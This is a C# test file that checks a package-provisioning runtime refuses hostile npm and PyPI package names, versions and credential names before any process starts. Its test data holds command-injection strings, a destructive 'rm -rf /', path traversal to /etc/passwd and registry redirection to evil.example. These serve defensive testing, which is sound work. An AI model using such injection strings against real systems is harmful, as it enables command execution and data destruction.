using Catwalk.Core.Machines;
using Catwalk.Core.Machines.Local;
using Catwalk.Core.Packages;

using Catwalk.Tests.Fixtures;

namespace Catwalk.Tests.Machines.Local;

/// <summary>
/// Whatever a user types as a package, version or credential name, nothing reaches a process unless it follows
/// npm's, PyPI's and the environment's naming rules. The "npx" here is a script that leaves a mark when run.
/// </summary>
public sealed class HostileInputTests : IDisposable
{
    private readonly string _directory = Directory.CreateTempSubdirectory("catwalk-hostile-").FullName;

    public static TheoryData<PackageRuntime, string, string?, string> HostileSpecs => new()
    {
        { PackageRuntime.Npm, "everything; touch /tmp/pwned", null, "VALID_NAME" },
        { PackageRuntime.Npm, "$(touch /tmp/pwned)", null, "VALID_NAME" },
        { PackageRuntime.Npm, "`id`", null, "VALID_NAME" },
        { PackageRuntime.Npm, "--registry=http://evil.example", null, "VALID_NAME" },
        { PackageRuntime.Npm, "-y", null, "VALID_NAME" },
        { PackageRuntime.Npm, "--call", null, "VALID_NAME" },
        { PackageRuntime.Npm, "../../etc/passwd", null, "VALID_NAME" },
        { PackageRuntime.Npm, "left-pad\nrm -rf /", null, "VALID_NAME" },
        { PackageRuntime.Npm, "left pad", null, "VALID_NAME" },
        { PackageRuntime.Npm, "left-pad", "1.0.0 && touch /tmp/pwned", "VALID_NAME" },
        { PackageRuntime.Npm, "left-pad", "--foo", "VALID_NAME" },
        { PackageRuntime.Npm, "left-pad", null, "BAD-NAME" },
        { PackageRuntime.Npm, "left-pad", null, "X;touch /tmp/pwned" },
        { PackageRuntime.Pypi, "mcp-server-fetch --index-url http://evil.example", null, "VALID_NAME" },
        { PackageRuntime.Pypi, "mcp-server-fetch", "1.0; touch /tmp/pwned", "VALID_NAME" },
        { PackageRuntime.Pypi, "-mcp", null, "VALID_NAME" },
    };

    [Theory]
    [MemberData(nameof(HostileSpecs))]
    public async Task A_hostile_spec_is_refused_before_any_process_starts(PackageRuntime runtime, string package, string? version, string credentialName)
    {
        var ct = TestContext.Current.CancellationToken;
        var marker = Path.Combine(_directory, "ran");
        await using var scope = new LocalRuntimeScope(options =>
        {
            options.NpxCommand = FakeTool(marker);
            options.UvxCommand = options.NpxCommand;
        });
        var spec = new MachineSpec(Guid.NewGuid(), package, runtime, version, new Dictionary<string, string> { [credentialName] = "value" });

        var provision = async () => await scope.Runtime.ProvisionAsync(spec, ct);

        await provision.Should().ThrowAsync<ArgumentException>();
        (await scope.Runtime.ListAsync(ct)).Should().BeEmpty();
        File.Exists(marker).Should().BeFalse("no process was started");
    }

    [Fact]
    public async Task A_credential_value_with_a_NUL_is_refused_without_echoing_the_value()
    {
        await using var scope = new LocalRuntimeScope();
        var spec = new MachineSpec(Guid.NewGuid(), "left-pad", PackageRuntime.Npm, null, new Dictionary<string, string> { ["API_KEY"] = "sec\0ret" });

        var provision = async () => await scope.Runtime.ProvisionAsync(spec, TestContext.Current.CancellationToken);

        (await provision.Should().ThrowAsync<ArgumentException>()).Which.Message.Should().Contain("API_KEY").And.NotContain("sec");
    }

    [Fact]
    public async Task A_valid_spec_does_run_the_tool_so_the_refusals_above_are_meaningful()
    {
        var marker = Path.Combine(_directory, "ran");
        // The fake npx writes its arguments to this test's folder, which a sandboxed server could not reach: this test is
        // about the argument list, so it runs unsandboxed (the sandbox has tests of its own).
        await using var scope = new LocalRuntimeScope(options => options.NpxCommand = FakeTool(marker), sandbox => sandbox.Mode = LocalSandboxMode.None);

        await scope.Runtime.ProvisionAsync(new MachineSpec(Guid.NewGuid(), "left-pad", PackageRuntime.Npm, "1.3.0", new Dictionary<string, string>()), TestContext.Current.CancellationToken);

        await Eventually.IsTrueAsync(() => File.Exists(marker), "the fake npx ran");
        (await File.ReadAllTextAsync(marker, TestContext.Current.CancellationToken)).Trim().Should().Be("-y -- left-pad@1.3.0");
    }

    private string FakeTool(string marker)
    {
        var path = Path.Combine(_directory, "fake-npx");
        File.WriteAllText(path, $"#!/bin/sh\necho \"$@\" > '{marker}'\n");
        if (!OperatingSystem.IsWindows())
        {
            File.SetUnixFileMode(path, UnixFileMode.UserRead | UnixFileMode.UserWrite | UnixFileMode.UserExecute);
        }

        return path;
    }

    public void Dispose() => Directory.Delete(_directory, recursive: true);
}
